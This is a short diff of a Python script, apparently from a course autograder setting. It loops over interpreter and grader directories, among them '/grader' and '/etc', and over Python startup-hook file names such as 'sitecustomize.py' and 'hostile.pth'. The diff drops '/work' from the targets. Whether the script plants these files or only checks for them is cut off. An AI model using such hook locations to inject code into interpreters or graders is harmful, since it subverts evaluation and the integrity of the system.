@@ -4,7 +4,7 @@
 import os
 import sys
 
-targets = [*filter(None, sys.path), sys.prefix, sys.base_prefix, "/course/gmlib", "/grader", "/usr/lib", "/etc", "/", "/work", "/home"]
+targets = [*filter(None, sys.path), sys.prefix, sys.base_prefix, "/course/gmlib", "/grader", "/usr/lib", "/etc", "/", "/home"]
 for folder in targets:
     for name in ["sitecustomize.py", "usercustomize.py", "hostile.pth", "conftest.py", "__init__.py"]:
         try:
